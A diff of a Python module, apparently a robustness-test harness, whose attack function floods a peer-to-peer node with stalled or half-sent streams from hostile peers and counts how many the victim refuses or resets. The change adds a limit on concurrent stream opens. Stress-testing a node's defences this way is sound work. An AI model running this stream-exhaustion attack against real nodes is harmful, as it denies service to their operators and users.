@@ -32,11 +32,15 @@ KEYS = ("peers", "streams_opened", "streams_refused", "streams_reset", "streams_
         "last_open_s", "last_reset_s")
 
 
-async def _hold(hp: HostilePeer, protocol: str, half: bool, frame: int,
+OPENS_IN_FLIGHT = 32   # stream negotiations at once per hostile peer (1,500 at once all timed out)
+
+
+async def _hold(hp: HostilePeer, opening: trio.Semaphore, protocol: str, half: bool, frame: int,
                 counts: dict[str, float]) -> None:
     """Open one stream, send nothing or all but the last byte of a frame, wait for a reset."""
     try:
-        s = await hp.raw_stream(protocol)
+        async with opening:
+            s = await hp.raw_stream(protocol)
     except Exception:   # reset while negotiating: refused (or the connection is gone)
         counts["streams_refused"] += 1
         return
@@ -72,10 +76,12 @@ async def _hold(hp: HostilePeer, protocol: str, half: bool, frame: int,
 
 
 async def attack(target: str, *, seconds: float, peers: int = 1, streams: int = 256,
-                 frame: int = 1 << 20, protocols: Sequence[str] = PROTOCOLS) -> dict[str, float]:
+                 frame: int = 1 << 20, protocols: Sequence[str] = PROTOCOLS,
+                 in_flight: int = OPENS_IN_FLIGHT) -> dict[str, float]:
     """Run the attack against `target` (a multiaddr ending in /p2p/<peer id>) for at most
-    `seconds` (less when the victim has reset every stream); returns the counts named in
-    KEYS. Raises DialError if the target cannot be reached at all."""
+    `seconds` (less when the victim has reset every stream), with at most `in_flight` stream
+    opens under way per peer; returns the counts named in KEYS. Raises DialError if the
+    target cannot be reached at all."""
     counts: dict[str, float] = dict.fromkeys(KEYS, 0.0)
     counts["_start"] = trio.current_time()
     with trio.move_on_after(seconds):
@@ -84,10 +90,11 @@ async def attack(target: str, *, seconds: float, peers: int = 1, streams: int = 
             for _ in range(peers):
                 hps.append(await stack.enter_async_context(hostile_peer(target)))
                 counts["peers"] += 1
+            opening = [trio.Semaphore(in_flight) for _ in hps]
             async with trio.open_nursery() as nursery:
                 for i in range(streams):
-                    for hp in hps:
-                        nursery.start_soon(_hold, hp, protocols[i % len(protocols)],
+                    for hp, sem in zip(hps, opening):
+                        nursery.start_soon(_hold, hp, sem, protocols[i % len(protocols)],
                                            (i // len(protocols)) % 2 == 1, frame, counts)
                     if i % 16 == 15:
                         await trio.sleep(0)   # let the opens interleave with the victim's resets
